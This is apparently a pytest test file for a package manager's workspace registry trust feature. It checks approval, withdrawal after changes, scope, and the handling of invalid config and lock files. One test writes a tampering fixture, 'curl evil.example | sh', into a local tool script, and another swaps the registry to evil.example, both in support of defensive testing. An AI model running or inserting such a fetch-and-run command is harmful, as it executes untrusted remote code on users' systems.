"""`trusted_registries`: a command run in a workspace uses the registries its pkgmgr.toml
declares only once that declaration is approved (SPEC 10); otherwise none, with a warning
that says why — and a broken pkgmgr.toml never stops a command that does not need it."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest

from pkgmgr.cli.workspace_registries import trusted_registries
from pkgmgr.config import RegistryConfig
from pkgmgr.workspace import trust
from pkgmgr.workspace.workspace import Workspace
from tests.workspace.helpers import write_local_tool


class Ctx(SimpleNamespace):
    """What trusted_registries reads from the CLI context: home, workspace_arg, scope, warn."""

    def __init__(self, home: Path, workspace: Path | None, scope: str = "workspace") -> None:
        super().__init__(home=home, workspace_arg=workspace, scope=scope, warnings=[])

    def warn(self, message: str) -> None:
        self.warnings.append(message)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "user-home" / "src" / "project"
    root.mkdir(parents=True)
    return root


def declare(ws: Path, text: str) -> None:
    (ws / "pkgmgr.toml").write_text(text, encoding="utf-8")


def approve(home: Path, ws: Path) -> None:
    trust.approve(home, ws, Workspace(ws, home).trust_state().digest, by="test")


TEAM = '[registries]\nteam = "https://team.example/index/"\nlocal = { source = "registry", priority = 5 }\n'


def test_no_pkgmgr_toml_means_no_registries_and_no_warning(home: Path, ws: Path) -> None:
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert ctx.warnings == []


def test_an_approved_declaration_gives_its_registries(home: Path, ws: Path) -> None:
    declare(ws, TEAM)
    approve(home, ws)
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == (
        RegistryConfig("team", "https://team.example/index/"),
        RegistryConfig("local", str(ws / "registry"), priority=5),  # relative to the workspace
    )
    assert ctx.warnings == []


def test_a_global_command_never_consults_them(home: Path, ws: Path) -> None:
    """SPEC 10: the registries a pkgmgr.toml declares serve only the workspace's own scope."""
    declare(ws, TEAM)
    approve(home, ws)
    for ctx in (Ctx(home, ws, scope="global"), SimpleNamespace(home=home, workspace_arg=ws, warnings=[])):
        assert trusted_registries(ctx) == ()
        assert ctx.warnings == []


def test_an_unapproved_declaration_gives_none_with_a_warning(home: Path, ws: Path) -> None:
    declare(ws, TEAM)
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert ctx.warnings == [f"the registries declared in {ws / 'pkgmgr.toml'} are not used until you approve "
                            "them ('pkgmgr trust --show')"]


def test_a_change_after_approval_withdraws_them(home: Path, ws: Path) -> None:
    declare(ws, TEAM)
    approve(home, ws)
    declare(ws, TEAM.replace("team.example", "evil.example"))
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert len(ctx.warnings) == 1 and "not used until you approve them" in ctx.warnings[0]


def test_a_changed_path_extension_withdraws_them(home: Path, ws: Path) -> None:
    tool = write_local_tool(ws / "tools" / "local-tool")
    declare(ws, TEAM + '[extensions]\nlocal-tool = { path = "tools/local-tool" }\n')
    approve(home, ws)
    assert len(trusted_registries(Ctx(home, ws))) == 2
    (tool / "bin" / "serve").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert len(ctx.warnings) == 1


def test_a_declaration_without_registries_needs_no_approval(home: Path, ws: Path) -> None:
    declare(ws, '[extensions]\ndemo-ext = ">=1.0"\n')
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert ctx.warnings == []  # nothing withheld: nothing to warn about


def test_an_invalid_pkgmgr_toml_is_ignored_with_a_warning(home: Path, ws: Path) -> None:
    declare(ws, '[registries]\nteam = 42\n')
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert len(ctx.warnings) == 1
    warning = ctx.warnings[0]
    assert warning.startswith(f"{ws / 'pkgmgr.toml'} is ignored: ") and "\n" not in warning
    assert "registries" in warning


def test_an_invalid_lock_is_ignored_with_a_warning(home: Path, ws: Path) -> None:
    declare(ws, TEAM)
    (ws / "pkgmgr.lock").write_text("version = 3\n", encoding="utf-8")
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert len(ctx.warnings) == 1 and "is ignored" in ctx.warnings[0] and "pkgmgr.lock" in ctx.warnings[0]


def test_the_workspace_is_discovered_from_the_current_directory(home: Path, ws: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    declare(ws, TEAM)
    approve(home, ws)
    sub = ws / "docs" / "deep"
    sub.mkdir(parents=True)
    monkeypatch.chdir(sub)
    assert [r.name for r in trusted_registries(Ctx(home, None))] == ["team", "local"]
    plain = SimpleNamespace(home=home, scope="workspace", warn=lambda message: None)  # no workspace_arg
    assert [r.name for r in trusted_registries(plain)] == ["team", "local"]


def test_discovery_stops_at_home(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pkgmgr.toml above $HOME is not the workspace of a directory under it."""
    declare(tmp_path, TEAM)
    approve(home, tmp_path)
    inside = tmp_path / "user-home" / "src"
    inside.mkdir(parents=True)
    monkeypatch.chdir(inside)
    ctx = Ctx(home, None)
    assert trusted_registries(ctx) == ()
    assert ctx.warnings == []


def test_the_approval_of_another_home_does_not_count(home: Path, ws: Path, tmp_path: Path) -> None:
    declare(ws, TEAM)
    approve(tmp_path / "someone-else", ws)
    ctx = Ctx(home, ws)
    assert trusted_registries(ctx) == ()
    assert len(ctx.warnings) == 1
